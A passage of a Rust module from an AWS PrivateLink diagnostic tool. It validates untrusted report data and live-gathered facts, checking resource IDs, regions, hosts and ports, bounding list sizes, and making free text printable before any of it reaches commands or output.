//! Validation of facts that come from a report (`tidbpe analyze`): a report
//! is untrusted input, written by anyone.
//!
//! Every value a check uses to build a command or reach a verdict passes
//! the validator the command line uses for the same kind of value (IDs,
//! region, host, port, service name, AZ IDs; addresses and CIDRs are typed
//! already), or a shape as strict where AWS's own forms vary (zone names,
//! endpoint states). A value that fails is an error naming its JSON path
//! (`facts.vpc_choice.vpc_id: not a VPC ID …`) and never the value itself,
//! which may be anything.
//!
//! Free text (ARNs, zone names, descriptions, error messages) is not
//! rejected for what it says: it is capped in length and stripped of
//! control characters (see [`crate::text::printable`]), so nothing a
//! terminal would act on survives into any output. It must never enter a
//! command unquoted.
//!
//! Every list is bounded (`most`): checks look the items of one list up in
//! another, so a report's lists must stay near the sizes AWS allows for
//! judging to stay fast.
//!
//! The doctor holds what it gathered live to the same forms before judging
//! it ([`gathered`]), but there a value of the wrong form is no reason to
//! refuse the whole run: it came from AWS, a proxy in front of it or the
//! instance metadata, not from the user. The fact that holds it becomes an
//! error naming its call (`unknown` for the checks that need it, like any
//! fact that could not be gathered), and the rest is judged. A replayed
//! report is refused whole ([`facts`]): it is one document from one author.

use std::fmt;
use std::net::IpAddr;

use crate::check::Need;
use crate::facts::{
    Client, ClientSource, Cluster, DhcpOptions, DnsRecord, Endpoint, EndpointService, Fact,
    FactError, FactErrorKind, Facts, HostedZone, Identity, Inputs, NetworkAcl, NetworkInterface,
    PrefixList, ResolverRule, SecurityGroup, SgPeer, SgRule, Subnet, Vpc, VpcChoice, VpcSource,
    Zone, ZoneRecords, ZoneVpcs,
};
use crate::names::{
    is_any_service_name, is_aws_token, is_az_id, is_check_id, is_client_address, is_hosted_zone_id,
    is_hostname, is_port, is_region, is_resource_id, region_of_service_name,
};
use crate::probe_facts::{DnsAnswer, FileContent, FileFact, ProbeFacts, VantageReason};
use crate::text::printable;

/// The longest free-text string a replayed report may hold, in bytes. The
/// longest strings AWS gives are ARNs (at most 2,048) and error messages
/// (`UnauthorizedOperation` carries an encoded message of 1–3 KB; the
/// doctor keeps 300 characters); descriptions and names are at most 255.
/// 4 KB holds all of them, and bounds what one string costs a renderer.
pub const MAX_TEXT_BYTES: usize = 4096;

/// A value of a replayed report that is not of its expected form.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Invalid {
    /// The JSON path of the value (`facts.vpc_choice.vpc_id`).
    pub path: String,
    /// What it should have been (`not a VPC ID (vpc- and 8 or 17 hex digits)`).
    pub problem: String,
}

impl fmt::Display for Invalid {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}: {}", self.path, self.problem)
    }
}

impl std::error::Error for Invalid {}

/// How the message of a fact replaced by [`gathered`] begins (the fix of
/// such an `unknown` finding is told by it).
pub const WRONG_FORM: &str = "answered a value of the wrong form";

/// Check every value of `facts` (read from a report, at JSON path `root`,
/// usually `facts`) and return them with their free text made printable.
pub fn facts(mut facts: Facts, root: &str) -> Result<Facts, Invalid> {
    let mut w = Walk {
        path: root.to_string(),
        lenient: false,
    };
    w.facts(&mut facts)?;
    Ok(facts)
}

/// Check what the doctor gathered live (at JSON path `root`) as [`facts`]
/// checks a report, with one difference: a fact (`identity`, `service`,
/// `security_groups`, …) that holds a value of the wrong form is replaced
/// by an [`FactErrorKind::Api`] error of the call that answered it ("…
/// answered a value of the wrong form: <path>: <problem>"), so only the
/// checks that need it are `unknown`. So is the VPC choice, when the call
/// that named the VPC answered an ID of the wrong form: it becomes
/// `vpc_choice_error`, and what was gathered for that VPC is dropped, as
/// when no VPC is found. The inputs (the user's, checked already) and the
/// probes (not facts of one call) are still refused whole.
pub fn gathered(mut facts: Facts, root: &str) -> Result<Facts, Invalid> {
    let mut w = Walk {
        path: root.to_string(),
        lenient: true,
    };
    w.facts(&mut facts)?;
    Ok(facts)
}

/// The error that stands for a fact of the wrong form, named by `action`
/// (an IAM action, or a source's short name). `what` names the place and
/// the expected form, never the value (gather uses it too, for a value
/// that does not parse).
pub fn wrong_form(action: &str, what: &dyn fmt::Display) -> FactError {
    FactError::new(FactErrorKind::Api, action, format!("{WRONG_FORM}: {what}"))
}

/// The call whose answer filled the client: `--instance-id`'s
/// DescribeInstances; otherwise (this instance, `--client-ip`) what
/// completed it, DescribeSubnets: the instance metadata's leaves are held
/// to their forms where they are read (`src/gather/imds.rs`), and
/// `--client-ip` is the user's, checked on the command line.
fn client_action(client: &Option<Fact<Client>>) -> &'static str {
    match client {
        Some(Ok(c)) if c.source == ClientSource::InstanceId => Need::Instance.action(),
        _ => Need::Subnets.action(),
    }
}

/// The call that named the VPC under test.
fn choice_action(source: VpcSource) -> &'static str {
    match source {
        VpcSource::Flag => Need::Vpc.action(),
        VpcSource::Imds => "imds",
        VpcSource::Instance => Need::Instance.action(),
        VpcSource::Endpoint | VpcSource::UniqueEndpoint => Need::Endpoints.action(),
    }
}

/// Check the inputs of a request (at JSON path `root`) as the command line
/// would have.
pub fn inputs(inputs: &mut Inputs, root: &str) -> Result<(), Invalid> {
    Walk {
        path: root.to_string(),
        lenient: false,
    }
    .inputs(inputs)
}

/// The expected form of a resource ID with `prefix`, for messages.
fn resource_kind(prefix: &str) -> &'static str {
    match prefix {
        "vpc" => "not a VPC ID (vpc- and 8 or 17 hex digits)",
        "vpce" => "not a VPC endpoint ID (vpce- and 8 or 17 hex digits)",
        "vpce-svc" => "not an endpoint service ID (vpce-svc- and 8 or 17 hex digits)",
        "i" => "not an instance ID (i- and 8 or 17 hex digits)",
        "subnet" => "not a subnet ID (subnet- and 8 or 17 hex digits)",
        "sg" => "not a security group ID (sg- and 8 or 17 hex digits)",
        "acl" => "not a network ACL ID (acl- and 8 or 17 hex digits)",
        "eni" => "not a network interface ID (eni- and 8 or 17 hex digits)",
        "dopt" => "not a DHCP option set ID (dopt- and 8 or 17 hex digits)",
        "pl" => "not a prefix list ID (pl- and 8 or 17 hex digits)",
        _ => "not a resource ID",
    }
}

const NOT_A_TOKEN: &str =
    "not an AWS name (1 to 64 letters, digits, '-', '_' or '.', as AWS gives it)";

/// How many items a list may hold: several times what AWS allows, so no
/// real VPC comes near, and few enough that the checks, which look items
/// of one list up in another, stay fast on any report (150,000 zone names
/// in a 10 MB report kept `analyze` busy for minutes).
mod most {
    /// IDs on one endpoint, instance or interface (AWS: up to 16 groups,
    /// one subnet per AZ).
    pub const PER_RESOURCE: usize = 64;
    /// AZs, Local Zones and AZ IDs of a region (AWS: a few dozen).
    pub const ZONES: usize = 1_000;
    /// Subnets of a VPC, and their network ACL associations (AWS: 200 by
    /// default, thousands at most).
    pub const SUBNETS: usize = 5_000;
    /// Rules of one security group or network ACL (AWS: 1,000 at most).
    pub const RULES: usize = 1_000;
    /// Anything else: security groups, hosted zones, endpoints, interfaces,
    /// network ACLs, prefix lists.
    pub const OTHER: usize = 10_000;
}

const NOT_A_CLIENT_ADDRESS: &str =
    "not an address a client can have (unspecified, loopback, multicast or broadcast)";

/// The short name of a source that is not an AWS call (`imds`, `dns`):
/// 1 to 32 lowercase ASCII letters, digits or `-`.
fn is_source_name(value: &str) -> bool {
    (1..=32).contains(&value.len())
        && value
            .bytes()
            .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-')
}

/// The VPC under test was named by a call that answered an ID of the
/// wrong form: no VPC was found (`error` says why, and the checks that need
/// the VPC are `unknown` naming that call), so nothing gathered for that ID
/// is kept, as when gathering finds no VPC. Probes seen from another VPC
/// than that ID were dropped already; the vantage no longer names it.
fn drop_the_vpc(f: &mut Facts, error: FactError) {
    let bad = f.vpc_choice.take().map(|c| c.vpc_id);
    f.vpc_choice_error = Some(error);
    f.vpc = None;
    f.dns_support = None;
    f.dns_hostnames = None;
    f.dhcp_options = None;
    f.hosted_zones = None;
    f.hosted_zone_vpcs = None;
    f.hosted_zone_records = None;
    f.endpoints = None;
    f.subnets = None;
    f.endpoint_interfaces = None;
    f.security_groups = None;
    f.prefix_lists = None;
    f.network_acls = None;
    f.resolver_rules = None;
    if let Some(p) = &mut f.probes {
        match &mut p.vantage.reason {
            VantageReason::NotAnInstance { vpc_id, .. } if *vpc_id == bad => *vpc_id = None,
            // This instance is in another VPC than the one of the wrong
            // form: nothing was probed, and there is no VPC to name.
            VantageReason::OtherVpc { vpc_id, .. } if Some(&*vpc_id) == bad.as_ref() => {
                f.probes = None;
            }
            _ => {}
        }
    }
}

/// A depth-first walk that knows the JSON path of where it is. The path is
/// a `String` grown and shrunk in place: no allocation per value.
struct Walk {
    path: String,
    /// Live facts ([`gathered`]): a fact of the wrong form is replaced by
    /// an error instead of ending the walk.
    lenient: bool,
}

impl Walk {
    /// Run `f` with `segment` (`.vpc_id`, `[3]`) appended to the path.
    fn at<T>(&mut self, segment: &str, f: impl FnOnce(&mut Self) -> T) -> T {
        let len = self.path.len();
        self.path.push_str(segment);
        let out = f(self);
        self.path.truncate(len);
        out
    }

    fn at_index<T>(&mut self, i: usize, f: impl FnOnce(&mut Self) -> T) -> T {
        self.at(&format!("[{i}]"), f)
    }

    fn invalid(&self, problem: impl Into<String>) -> Invalid {
        Invalid {
            path: self.path.clone(),
            problem: problem.into(),
        }
    }

    fn check(&mut self, segment: &str, ok: bool, problem: &str) -> Result<(), Invalid> {
        self.at(
            segment,
            |w| {
                if ok {
                    Ok(())
                } else {
                    Err(w.invalid(problem))
                }
            },
        )
    }

    fn id(&mut self, segment: &str, value: &str, prefix: &str) -> Result<(), Invalid> {
        self.check(
            segment,
            is_resource_id(value, prefix),
            resource_kind(prefix),
        )
    }

    fn opt_id(&mut self, segment: &str, value: Option<&str>, prefix: &str) -> Result<(), Invalid> {
        match value {
            Some(v) => self.id(segment, v, prefix),
            None => Ok(()),
        }
    }

    /// The IDs one resource holds (at most [`most::PER_RESOURCE`]).
    fn ids(&mut self, segment: &str, values: &[String], prefix: &str) -> Result<(), Invalid> {
        self.ids_at_most(segment, values, prefix, most::PER_RESOURCE)
    }

    fn ids_at_most(
        &mut self,
        segment: &str,
        values: &[String],
        prefix: &str,
        max: usize,
    ) -> Result<(), Invalid> {
        self.at(segment, |w| {
            w.at_most(values.len(), max)?;
            for (i, v) in values.iter().enumerate() {
                w.at_index(i, |w| {
                    if is_resource_id(v, prefix) {
                        Ok(())
                    } else {
                        Err(w.invalid(resource_kind(prefix)))
                    }
                })?;
            }
            Ok(())
        })
    }

    fn token(&mut self, segment: &str, value: &str) -> Result<(), Invalid> {
        self.check(segment, is_aws_token(value), NOT_A_TOKEN)
    }

    fn opt_token(&mut self, segment: &str, value: Option<&str>) -> Result<(), Invalid> {
        match value {
            Some(v) => self.token(segment, v),
            None => Ok(()),
        }
    }

    /// Free text: kept, capped, made printable.
    fn text(&mut self, segment: &str, value: &mut String) -> Result<(), Invalid> {
        self.at(segment, |w| w.text_here(value))
    }

    fn text_here(&mut self, value: &mut String) -> Result<(), Invalid> {
        if value.len() > MAX_TEXT_BYTES {
            return Err(self.invalid(format!(
                "a text of {} bytes; at most {MAX_TEXT_BYTES} are accepted",
                value.len()
            )));
        }
        if let std::borrow::Cow::Owned(clean) = printable(value) {
            *value = clean;
        }
        Ok(())
    }

    fn opt_text(&mut self, segment: &str, value: &mut Option<String>) -> Result<(), Invalid> {
        match value {
            Some(v) => self.text(segment, v),
            None => Ok(()),
        }
    }

    /// A gathered fact: `Ok` checked by `ok`, `Err` a [`FactError`].
    /// `action`: the call that answered it, which a lenient walk names
    /// when it replaces a fact of the wrong form.
    fn fact<T>(
        &mut self,
        segment: &str,
        action: &str,
        fact: &mut Option<Fact<T>>,
        ok: impl FnOnce(&mut Self, &mut T) -> Result<(), Invalid>,
    ) -> Result<(), Invalid> {
        let checked = match fact {
            None => Ok(()),
            Some(Ok(value)) => self.at(segment, |w| w.at(".Ok", |w| ok(w, value))),
            Some(Err(err)) => self.at(segment, |w| w.at(".Err", |w| w.fact_error(err))),
        };
        match checked {
            Err(invalid) if self.lenient => {
                *fact = Some(Err(wrong_form(action, &invalid)));
                Ok(())
            }
            checked => checked,
        }
    }

    /// A list of `len` items here holds at most `max`.
    fn at_most(&self, len: usize, max: usize) -> Result<(), Invalid> {
        if len > max {
            Err(self.invalid(format!("{len} items; at most {max} are accepted")))
        } else {
            Ok(())
        }
    }

    fn list<T>(
        &mut self,
        items: &mut [T],
        max: usize,
        mut each: impl FnMut(&mut Self, &mut T) -> Result<(), Invalid>,
    ) -> Result<(), Invalid> {
        self.at_most(items.len(), max)?;
        for (i, item) in items.iter_mut().enumerate() {
            self.at_index(i, |w| each(w, item))?;
        }
        Ok(())
    }

    fn fact_error(&mut self, err: &mut FactError) -> Result<(), Invalid> {
        // The action is printed in the fix of a denied call ("Allow … to
        // the identity running tidbpe"): only a call the doctor makes, or a
        // source's short name (`imds`), never what the report chooses.
        self.check(
            ".action",
            err.need().is_some() || is_source_name(&err.action),
            "not a call the doctor makes (an IAM action such as ec2:DescribeVpcs)",
        )?;
        self.opt_text(".code", &mut err.code)?;
        self.text(".message", &mut err.message)
    }

    fn facts(&mut self, f: &mut Facts) -> Result<(), Invalid> {
        self.at(".inputs", |w| w.inputs(&mut f.inputs))?;
        self.fact(
            ".identity",
            Need::Identity.action(),
            &mut f.identity,
            Self::identity,
        )?;
        self.fact(
            ".service",
            Need::Service.action(),
            &mut f.service,
            |w, s| match s {
                Some(s) => w.service(s),
                None => Ok(()),
            },
        )?;
        self.fact(".zones", Need::Zones.action(), &mut f.zones, |w, zs| {
            w.list(zs, most::ZONES, Self::zone)
        })?;
        if let Some(choice) = &mut f.vpc_choice {
            let checked = self.at(".vpc_choice", |w| w.vpc_choice(choice));
            match checked {
                // `--vpc-id` was checked on the command line: only a call
                // can have named a VPC of the wrong form.
                Err(invalid) if self.lenient && choice.source != VpcSource::Flag => {
                    let error = wrong_form(choice_action(choice.source), &invalid);
                    drop_the_vpc(f, error);
                }
                checked => checked?,
            }
        }
        if let Some(err) = &mut f.vpc_choice_error {
            self.at(".vpc_choice_error", |w| w.fact_error(err))?;
        }
        let client_action = client_action(&f.client);
        self.fact(".client", client_action, &mut f.client, Self::client)?;
        self.fact(".vpc", Need::Vpc.action(), &mut f.vpc, Self::vpc)?;
        let attributes = Need::VpcAttributes.action();
        self.fact(
            ".dns_support",
            attributes,
            &mut f.dns_support,
            |_, _| Ok(()),
        )?;
        self.fact(
            ".dns_hostnames",
            attributes,
            &mut f.dns_hostnames,
            |_, _| Ok(()),
        )?;
        self.fact(
            ".dhcp_options",
            Need::DhcpOptions.action(),
            &mut f.dhcp_options,
            |w, d| match d {
                Some(d) => w.dhcp_options(d),
                None => Ok(()),
            },
        )?;
        self.fact(
            ".hosted_zones",
            Need::HostedZones.action(),
            &mut f.hosted_zones,
            |w, zs| w.list(zs, most::OTHER, Self::hosted_zone),
        )?;
        self.fact(
            ".hosted_zone_vpcs",
            Need::HostedZoneVpcs.action(),
            &mut f.hosted_zone_vpcs,
            |w, zs| w.list(zs, most::OTHER, Self::zone_vpcs),
        )?;
        self.fact(
            ".hosted_zone_records",
            Need::HostedZoneRecords.action(),
            &mut f.hosted_zone_records,
            |w, zs| w.list(zs, most::OTHER, Self::zone_records),
        )?;
        self.fact(
            ".endpoints",
            Need::Endpoints.action(),
            &mut f.endpoints,
            |w, es| w.list(es, most::OTHER, Self::endpoint),
        )?;
        self.fact(
            ".subnets",
            Need::Subnets.action(),
            &mut f.subnets,
            |w, ss| w.list(ss, most::SUBNETS, Self::subnet),
        )?;
        self.fact(
            ".endpoint_interfaces",
            Need::NetworkInterfaces.action(),
            &mut f.endpoint_interfaces,
            |w, ns| w.list(ns, most::OTHER, Self::interface),
        )?;
        self.fact(
            ".security_groups",
            Need::SecurityGroups.action(),
            &mut f.security_groups,
            |w, gs| w.list(gs, most::OTHER, Self::security_group),
        )?;
        self.fact(
            ".prefix_lists",
            Need::PrefixLists.action(),
            &mut f.prefix_lists,
            |w, ps| w.list(ps, most::OTHER, Self::prefix_list),
        )?;
        self.fact(
            ".network_acls",
            Need::NetworkAcls.action(),
            &mut f.network_acls,
            |w, acls| {
                w.list(acls, most::OTHER, Self::network_acl)?;
                // A subnet is associated with one network ACL: all of them
                // together govern at most as many subnets as a VPC holds.
                let associations: usize = acls.iter().map(|a| a.subnet_ids.len()).sum();
                if associations > most::SUBNETS {
                    return Err(w.invalid(format!(
                        "{associations} subnet associations in all; at most {} are accepted",
                        most::SUBNETS
                    )));
                }
                Ok(())
            },
        )?;
        // The rules are read with GetResolverRule, each listed by its
        // association: the rule's own call answered the values checked.
        self.fact(
            ".resolver_rules",
            Need::ResolverRules.action(),
            &mut f.resolver_rules,
            |w, rs| w.list(rs, most::OTHER, Self::resolver_rule),
        )?;
        if let Some(probes) = &f.probes {
            self.at(".probes", |w| w.probes(probes))?;
        }
        // Timings are keyed by `Need` (typed when parsed) and only shown.
        Ok(())
    }

    /// What the live probes saw: typed (addresses, outcomes) and shown as
    /// text, never in a command; only the lists are bounded here, as the
    /// probe checks compare them with each other and with the endpoint's.
    fn probes(&mut self, p: &ProbeFacts) -> Result<(), Invalid> {
        if let Some(path) = &p.resolver_path {
            self.at(".resolver_path", |w| {
                for (segment, file) in [
                    (".resolv_conf", Some(&path.resolv_conf)),
                    (".systemd_resolved", path.systemd_resolved.as_ref()),
                ] {
                    if let Some(FileFact {
                        content: FileContent::Read(conf),
                        ..
                    }) = file
                    {
                        w.at(segment, |w| {
                            w.at(".content.read", |w| {
                                w.at(".nameservers", |w| {
                                    w.at_most(conf.nameservers.len(), most::PER_RESOURCE)
                                })?;
                                w.at(".search", |w| {
                                    w.at_most(conf.search.len(), most::PER_RESOURCE)
                                })?;
                                w.at(".options", |w| {
                                    w.at_most(conf.options.len(), most::PER_RESOURCE)
                                })
                            })
                        })?;
                    }
                }
                if let FileContent::Read(entries) = &path.hosts.content {
                    w.at(".hosts.content.read", |w| {
                        w.at_most(entries.len(), most::RULES)?;
                        for (i, e) in entries.iter().enumerate() {
                            w.at_index(i, |w| {
                                w.at(".names", |w| w.at_most(e.names.len(), most::PER_RESOURCE))
                            })?;
                        }
                        Ok(())
                    })?;
                }
                Ok(())
            })?;
        }
        if let Some(dns) = &p.dns {
            self.at(".dns", |w| {
                w.at(".resolver.servers", |w| {
                    w.at_most(dns.resolver.servers.len(), most::PER_RESOURCE)
                })?;
                for (segment, lookup) in [(".a", &dns.a), (".aaaa", &dns.aaaa)] {
                    if let DnsAnswer::Addresses { addresses, cnames } = &lookup.answer {
                        w.at(segment, |w| {
                            w.at(".answer.addresses", |w| {
                                w.at_most(addresses.len(), most::PER_RESOURCE)
                            })?;
                            w.at(".answer.cnames", |w| {
                                w.at_most(cnames.len(), most::PER_RESOURCE)
                            })
                        })?;
                    }
                }
                Ok(())
            })?;
        }
        // One probe per address answered, A and AAAA.
        self.at(".addresses", |w| {
            w.at_most(p.addresses.len(), 2 * most::PER_RESOURCE)
        })
    }

    /// A service name, where one was given.
    fn opt_service_name(&mut self, name: Option<&str>) -> Result<(), Invalid> {
        match name {
            Some(name) => self.check(
                ".service_name",
                region_of_service_name(name).is_some(),
                "not an endpoint service name (com.amazonaws.vpce.<region>.vpce-svc-<8 or 17 hex digits>)",
            ),
            None => Ok(()),
        }
    }

    /// A host name, where one was given.
    fn opt_host(&mut self, host: Option<&str>) -> Result<(), Invalid> {
        match host {
            Some(host) => self.check(
                ".host",
                is_hostname(host),
                "not a host name (such as gateway01-privatelink.us-east-1.prod.aws.tidbcloud.com)",
            ),
            None => Ok(()),
        }
    }

    /// AZ IDs (`use1-az1`), as many as a region can have.
    fn az_ids(&mut self, ids: &[String]) -> Result<(), Invalid> {
        self.at(".az_ids", |w| {
            w.at_most(ids.len(), most::ZONES)?;
            for (n, az) in ids.iter().enumerate() {
                w.at_index(n, |w| {
                    if is_az_id(az) {
                        Ok(())
                    } else {
                        Err(w.invalid("not an AZ ID (such as use1-az1)"))
                    }
                })?;
            }
            Ok(())
        })
    }

    /// What `--cluster-json` said, checked as the parser of `ticloud`'s
    /// output checks it.
    fn cluster(&mut self, c: &mut Cluster) -> Result<(), Invalid> {
        self.opt_token(".cluster_id", c.cluster_id.as_deref())?;
        self.opt_text(".display_name", &mut c.display_name)?;
        self.opt_token(".state", c.state.as_deref())?;
        self.token(".cloud_provider", &c.cloud_provider)?;
        self.check(
            ".region",
            if c.is_aws() {
                is_region(&c.region)
            } else {
                is_aws_token(&c.region)
            },
            "not a region of the cluster's cloud (such as us-east-1)",
        )?;
        self.opt_host(c.host.as_deref())?;
        if let Some(port) = c.port {
            self.check(".port", is_port(port), "not a TCP port (1 to 65535)")?;
        }
        self.opt_service_name(c.service_name.as_deref())?;
        self.az_ids(&c.az_ids)
    }

    fn inputs(&mut self, i: &mut Inputs) -> Result<(), Invalid> {
        self.opt_service_name(i.service_name.as_deref())?;
        self.az_ids(&i.az_ids)?;
        if let Some(cluster) = &mut i.cluster {
            self.at(".cluster", |w| w.cluster(cluster))?;
        }
        // A cluster on another cloud is judged (INP001) in its own region.
        let other_cloud = i.cluster.as_ref().is_some_and(|c| !c.is_aws());
        self.check(
            ".region",
            is_region(&i.region) || (other_cloud && is_aws_token(&i.region)),
            "not an AWS region (such as us-east-1)",
        )?;
        self.opt_host(i.host.as_deref())?;
        self.check(".port", is_port(i.port), "not a TCP port (1 to 65535)")?;
        if let Some(ip) = i.client_ip {
            self.check(".client_ip", is_client_address(ip), NOT_A_CLIENT_ADDRESS)?;
        }
        self.opt_id(".vpc_id", i.vpc_id.as_deref(), "vpc")?;
        self.opt_id(".endpoint_id", i.endpoint_id.as_deref(), "vpce")?;
        self.opt_id(".instance_id", i.instance_id.as_deref(), "i")?;
        let deselected = std::mem::take(&mut i.deselected);
        for (id, mut reason) in deselected {
            self.at(".deselected", |w| {
                w.check(
                    &format!(
                        ".{}",
                        if is_check_id(&id) {
                            id.as_str()
                        } else {
                            "<key>"
                        }
                    ),
                    is_check_id(&id),
                    "a key that is not a check ID (such as VPC002)",
                )?;
                w.text(&format!(".{id}"), &mut reason)
            })?;
            i.deselected.insert(id, reason);
        }
        Ok(())
    }

    fn identity(&mut self, id: &mut Identity) -> Result<(), Invalid> {
        // Shown, never used in a command; redaction may rewrite both.
        self.text(".account", &mut id.account)?;
        self.text(".arn", &mut id.arn)
    }

    fn service(&mut self, s: &mut EndpointService) -> Result<(), Invalid> {
        self.check(
            ".service_name",
            is_any_service_name(&s.service_name),
            "not an endpoint service name",
        )?;
        self.opt_id(".service_id", s.service_id.as_deref(), "vpce-svc")?;
        self.at(".service_type", |w| {
            w.list(&mut s.service_type, most::PER_RESOURCE, |w, t| {
                w.text_here(t)
            })
        })?;
        self.at(".availability_zones", |w| {
            w.list(&mut s.availability_zones, most::ZONES, |w, z| {
                if is_aws_token(z) {
                    Ok(())
                } else {
                    Err(w.invalid(NOT_A_TOKEN))
                }
            })
        })?;
        // The default host: it enters commands (`--host`, `dig`).
        self.at(".private_dns_names", |w| {
            w.list(&mut s.private_dns_names, most::PER_RESOURCE, |w, n| {
                if is_hostname(n.strip_prefix("*.").unwrap_or(n)) {
                    Ok(())
                } else {
                    Err(w.invalid("not a DNS name (such as gateway01-privatelink.us-east-1.prod.aws.tidbcloud.com)"))
                }
            })
        })?;
        self.opt_text(".owner", &mut s.owner)?;
        self.opt_token(
            ".private_dns_name_verification_state",
            s.private_dns_name_verification_state.as_deref(),
        )?;
        if let Some(types) = &s.supported_ip_address_types {
            self.at(".supported_ip_address_types", |w| {
                for (i, t) in types.iter().enumerate() {
                    w.at_index(i, |w| w.token("", t))?;
                }
                Ok(())
            })?;
        }
        self.opt_token(".service_region", s.service_region.as_deref())
    }

    fn zone(&mut self, z: &mut Zone) -> Result<(), Invalid> {
        self.token(".zone_name", &z.zone_name)?;
        self.token(".zone_id", &z.zone_id)
    }

    fn vpc_choice(&mut self, c: &mut VpcChoice) -> Result<(), Invalid> {
        // The source is an enum: parsing already refused anything else.
        self.id(".vpc_id", &c.vpc_id, "vpc")
    }

    fn client(&mut self, c: &mut Client) -> Result<(), Invalid> {
        self.opt_id(".instance_id", c.instance_id.as_deref(), "i")?;
        self.opt_id(".vpc_id", c.vpc_id.as_deref(), "vpc")?;
        self.opt_id(".subnet_id", c.subnet_id.as_deref(), "subnet")?;
        self.opt_token(".availability_zone", c.availability_zone.as_deref())?;
        self.opt_token(".az_id", c.az_id.as_deref())?;
        if let Some(ip) = c.private_ip {
            self.check(".private_ip", is_client_address(ip), NOT_A_CLIENT_ADDRESS)?;
        }
        self.ids(".security_group_ids", &c.security_group_ids, "sg")?;
        self.check(
            ".local_port_range",
            c.local_port_range
                .is_none_or(|(lo, hi)| 1 <= lo && lo <= hi),
            "not a port range (two ports, the first at least 1 and not above the second)",
        )
    }

    fn vpc(&mut self, v: &mut Vpc) -> Result<(), Invalid> {
        self.id(".vpc_id", &v.vpc_id, "vpc")?;
        match v.dhcp_options_id.as_deref() {
            // A VPC without an option set says `default`.
            Some("default") | None => Ok(()),
            Some(id) => self.id(".dhcp_options_id", id, "dopt"),
        }
    }

    fn dhcp_options(&mut self, d: &mut DhcpOptions) -> Result<(), Invalid> {
        self.id(".dhcp_options_id", &d.dhcp_options_id, "dopt")?;
        self.at(".domain_name_servers", |w| {
            w.list(&mut d.domain_name_servers, most::PER_RESOURCE, |w, s| {
                if s == "AmazonProvidedDNS" || s.parse::<IpAddr>().is_ok() {
                    Ok(())
                } else {
                    Err(w.invalid("not AmazonProvidedDNS or an IP address"))
                }
            })
        })
    }

    fn hosted_zone(&mut self, z: &mut HostedZone) -> Result<(), Invalid> {
        self.check(
            ".id",
            is_hosted_zone_id(&z.id),
            "not a hosted zone ID (such as Z1D633PJN98FT9)",
        )?;
        self.text(".name", &mut z.name)?;
        self.opt_text(".owning_service", &mut z.owning_service)
    }

    fn zone_id(&mut self, segment: &str, id: &str) -> Result<(), Invalid> {
        self.check(
            segment,
            is_hosted_zone_id(id),
            "not a hosted zone ID (such as Z1D633PJN98FT9)",
        )
    }

    fn zone_vpcs(&mut self, z: &mut ZoneVpcs) -> Result<(), Invalid> {
        self.zone_id(".zone_id", &z.zone_id)?;
        self.at(".vpcs", |w| {
            w.list(&mut z.vpcs, most::OTHER, |w, v| {
                w.id(".vpc_id", &v.vpc_id, "vpc")?;
                w.token(".region", &v.region)
            })
        })
    }

    /// Records enter fix commands only JSON-encoded inside a shell-quoted
    /// change batch; their text is kept printable all the same.
    fn zone_records(&mut self, z: &mut ZoneRecords) -> Result<(), Invalid> {
        self.zone_id(".zone_id", &z.zone_id)?;
        self.at(".records", |w| {
            w.list(&mut z.records, most::OTHER, Self::dns_record)
        })
    }

    fn dns_record(&mut self, r: &mut DnsRecord) -> Result<(), Invalid> {
        self.text(".name", &mut r.name)?;
        self.token(".record_type", &r.record_type)?;
        self.at(".values", |w| {
            w.list(&mut r.values, most::RULES, |w, v| w.text_here(v))
        })?;
        if let Some(a) = &mut r.alias_target {
            self.at(".alias_target", |w| {
                w.text(".dns_name", &mut a.dns_name)?;
                w.zone_id(".hosted_zone_id", &a.hosted_zone_id)
            })?;
        }
        self.opt_text(".set_identifier", &mut r.set_identifier)
    }

    fn endpoint(&mut self, e: &mut Endpoint) -> Result<(), Invalid> {
        self.id(".endpoint_id", &e.endpoint_id, "vpce")?;
        self.id(".vpc_id", &e.vpc_id, "vpc")?;
        self.check(
            ".service_name",
            is_any_service_name(&e.service_name),
            "not an endpoint service name",
        )?;
        self.token(".endpoint_type", &e.endpoint_type)?;
        self.token(".state", &e.state)?;
        self.ids(".subnet_ids", &e.subnet_ids, "subnet")?;
        self.ids(".security_group_ids", &e.security_group_ids, "sg")?;
        self.ids(".network_interface_ids", &e.network_interface_ids, "eni")?;
        self.opt_token(".ip_address_type", e.ip_address_type.as_deref())?;
        // A DNS name goes into a record's value in a fix command.
        self.at(".dns_entries", |w| {
            w.list(&mut e.dns_entries, most::PER_RESOURCE, |w, d| {
                w.check(
                    ".dns_name",
                    is_hostname(&d.dns_name),
                    "not a host name (such as vpce-0a1b2c3d-x1y2z3.vpce-svc-0a1b2c3d.us-east-1.vpce.amazonaws.com)",
                )?;
                match &d.hosted_zone_id {
                    Some(id) => w.zone_id(".hosted_zone_id", id),
                    None => Ok(()),
                }
            })
        })
    }

    fn resolver_rule(&mut self, r: &mut ResolverRule) -> Result<(), Invalid> {
        // The rule ID enters `disassociate-resolver-rule`.
        self.token(".rule_id", &r.rule_id)?;
        self.text(".domain_name", &mut r.domain_name)?;
        self.token(".rule_type", &r.rule_type)?;
        self.opt_text(".name", &mut r.name)?;
        self.opt_token(".resolver_endpoint_id", r.resolver_endpoint_id.as_deref())?;
        self.opt_text(".owner_id", &mut r.owner_id)?;
        self.opt_token(".association_id", r.association_id.as_deref())?;
        self.opt_token(".association_status", r.association_status.as_deref())
    }

    fn subnet(&mut self, s: &mut Subnet) -> Result<(), Invalid> {
        self.id(".subnet_id", &s.subnet_id, "subnet")?;
        self.id(".vpc_id", &s.vpc_id, "vpc")?;
        self.token(".availability_zone", &s.availability_zone)?;
        self.token(".az_id", &s.az_id)
    }

    fn interface(&mut self, n: &mut NetworkInterface) -> Result<(), Invalid> {
        self.id(".network_interface_id", &n.network_interface_id, "eni")?;
        self.id(".subnet_id", &n.subnet_id, "subnet")?;
        self.opt_token(".availability_zone", n.availability_zone.as_deref())?;
        self.ids(".security_group_ids", &n.security_group_ids, "sg")
    }

    fn security_group(&mut self, g: &mut SecurityGroup) -> Result<(), Invalid> {
        self.id(".group_id", &g.group_id, "sg")?;
        self.text(".group_name", &mut g.group_name)?;
        self.opt_id(".vpc_id", g.vpc_id.as_deref(), "vpc")?;
        self.at(".ingress", |w| {
            w.list(&mut g.ingress, most::RULES, Self::sg_rule)
        })?;
        self.at(".egress", |w| {
